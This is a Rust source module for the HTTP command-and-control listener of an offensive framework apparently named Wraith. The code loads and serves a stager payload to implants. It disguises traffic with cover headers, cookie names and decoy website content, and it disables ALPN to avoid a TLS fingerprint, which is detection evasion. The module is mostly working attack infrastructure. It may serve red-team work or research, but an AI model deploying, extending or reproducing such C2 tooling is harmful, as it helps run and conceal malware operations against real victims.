pub mod handlers;
pub mod headers;
pub mod listener;
pub mod router;
pub mod session_manager;

use crate::certs::{acme::AcmeManager, CertificateAuthority, C2_SERVER_CA, HTTPS_CA};
use crate::config::HttpC2Config;
use crate::crypto::totp::TotpProvider;
use crate::session::SessionRegistry;
use crate::website::WebsiteStore;
use crate::WraithError;
use headers::CoverHeaders;
use listener::{AcmeChallengeServer, HttpC2Listener};
use session_manager::HttpSessionStore;
use std::sync::Arc;
use tokio::signal;
use tokio::sync::watch;

/// Everything a request handler needs, shared across connection tasks.
pub struct C2Context {
    pub config: HttpC2Config,
    pub cover: CoverHeaders,
    pub store: HttpSessionStore,
    pub registry: Arc<SessionRegistry>,
    pub ca: Arc<CertificateAuthority>,
    pub totp: Option<TotpProvider>,
    pub website: Option<WebsiteStore>,
    pub stage: Vec<u8>,
}

impl C2Context {
    /// Common name for the C2 handshake keypair.
    pub fn c2_domain(&self) -> String {
        if self.config.domain.is_empty() {
            "localhost".to_string()
        } else {
            self.config.domain.clone()
        }
    }
}

/// Owns the listener lifecycle: certificate material, TLS mode, the accept
/// loop, and the ACME challenge server when one is needed.
pub struct C2Server {
    ctx: Arc<C2Context>,
    tls: Option<rustls::ServerConfig>,
    acme: Option<Arc<AcmeManager>>,
}

impl C2Server {
    pub async fn new(config: HttpC2Config) -> crate::Result<Self> {
        config.validate()?;
        install_crypto_provider();

        let ca = Arc::new(CertificateAuthority::new(config.data_dir.join("certs"))?);

        let stage = match &config.stage_file {
            Some(path) => {
                let blob = std::fs::read(path)?;
                tracing::info!(size = blob.len(), "Loaded stager payload");
                blob
            }
            None => Vec::new(),
        };

        let website = if config.website.is_empty() {
            tracing::info!("No website content, using wildcard 404 handler");
            None
        } else {
            let root = config
                .website_root
                .clone()
                .unwrap_or_else(|| config.data_dir.join("websites").join(&config.website));
            tracing::info!(site = %config.website, root = %root.display(), "Serving static website content");
            Some(WebsiteStore::new(config.website.clone(), root))
        };

        let totp = match &config.otp_secret {
            Some(secret) => Some(TotpProvider::from_hex(secret)?),
            None => None,
        };

        // The handshake keypair must exist before the first key request.
        let c2_cn = if config.domain.is_empty() {
            "localhost".to_string()
        } else {
            config.domain.clone()
        };
        ca.get_or_generate_rsa(C2_SERVER_CA, &c2_cn)?;

        let (tls, acme) = if config.secure {
            if config.acme {
                tracing::info!(domain = %config.domain, "ACME-managed certificate for listener");
                let acme = Arc::new(AcmeManager::new(config.domain.clone()));
                (Some(resolver_tls_config(acme.resolver())?), Some(acme))
            } else {
                (Some(static_tls_config(&config, &ca)?), None)
            }
        } else {
            (None, None)
        };

        let ctx = Arc::new(C2Context {
            cover: CoverHeaders::new(config.cookie_names.clone()),
            store: HttpSessionStore::new(),
            registry: Arc::new(SessionRegistry::new()),
            ca,
            totp,
            website,
            stage,
            config,
        });

        Ok(Self { ctx, tls, acme })
    }

    /// Shared context, for operator-plane wiring (session registry access)
    /// and tests.
    pub fn context(&self) -> Arc<C2Context> {
        self.ctx.clone()
    }

    pub async fn run(self) -> crate::Result<()> {
        let (shutdown_tx, shutdown_rx) = watch::channel(false);

        let acme_task = match &self.acme {
            Some(acme) => {
                let challenge = AcmeChallengeServer::bind(acme.clone()).await?;
                Some(tokio::spawn(challenge.run(shutdown_rx.clone())))
            }
            None => None,
        };

        let c2_listener = HttpC2Listener::bind(self.ctx.clone(), self.tls).await?;
        let mut run_fut = Box::pin(c2_listener.run(shutdown_rx));

        tokio::select! {
            result = &mut run_fut => result?,
            _ = signal::ctrl_c() => {
                tracing::info!("Shutdown signal received");
                let _ = shutdown_tx.send(true);
                run_fut.await?;
            }
        }

        if let Some(task) = acme_task {
            let _ = task.await;
        }
        tracing::info!("C2 listener stopped");
        Ok(())
    }
}

fn install_crypto_provider() {
    let _ = rustls::crypto::ring::default_provider().install_default();
}

fn base_tls_builder() -> rustls::ConfigBuilder<rustls::ServerConfig, rustls::WantsVerifier> {
    // TLS 1.2 minimum.
    rustls::ServerConfig::builder_with_protocol_versions(&[
        &rustls::version::TLS12,
        &rustls::version::TLS13,
    ])
}

/// TLS config from provided PEM files, or a self-signed certificate when
/// none are configured.
fn static_tls_config(
    config: &HttpC2Config,
    ca: &CertificateAuthority,
) -> crate::Result<rustls::ServerConfig> {
    install_crypto_provider();
    let (cert_pem, key_pem) = match (&config.cert_file, &config.key_file) {
        (Some(cert_file), Some(key_file)) => {
            (std::fs::read(cert_file)?, std::fs::read(key_file)?)
        }
        _ => {
            let cn = if config.domain.is_empty() {
                "localhost"
            } else {
                &config.domain
            };
            let (cert, key) = ca.get_or_generate_rsa(HTTPS_CA, cn)?;
            (cert.into_bytes(), key.into_bytes())
        }
    };

    let certs = rustls_pemfile::certs(&mut &cert_pem[..])
        .collect::<Result<Vec<_>, _>>()
        .map_err(|e| WraithError::Tls(e.to_string()))?;
    let key = rustls_pemfile::private_key(&mut &key_pem[..])
        .map_err(|e| WraithError::Tls(e.to_string()))?
        .ok_or_else(|| WraithError::Tls("no private key in PEM".to_string()))?;

    let mut tls = base_tls_builder()
        .with_no_client_auth()
        .with_single_cert(certs, key)
        .map_err(|e| WraithError::Tls(e.to_string()))?;
    // No ALPN: keeps traffic on HTTP/1.x and off the h2 TLS fingerprint.
    tls.alpn_protocols = Vec::new();
    Ok(tls)
}

/// TLS config whose certificate is produced on demand by the ACME manager.
fn resolver_tls_config(
    resolver: Arc<dyn rustls::server::ResolvesServerCert>,
) -> crate::Result<rustls::ServerConfig> {
    install_crypto_provider();
    let mut tls = base_tls_builder()
        .with_no_client_auth()
        .with_cert_resolver(resolver);
    tls.alpn_protocols = Vec::new();
    Ok(tls)
}
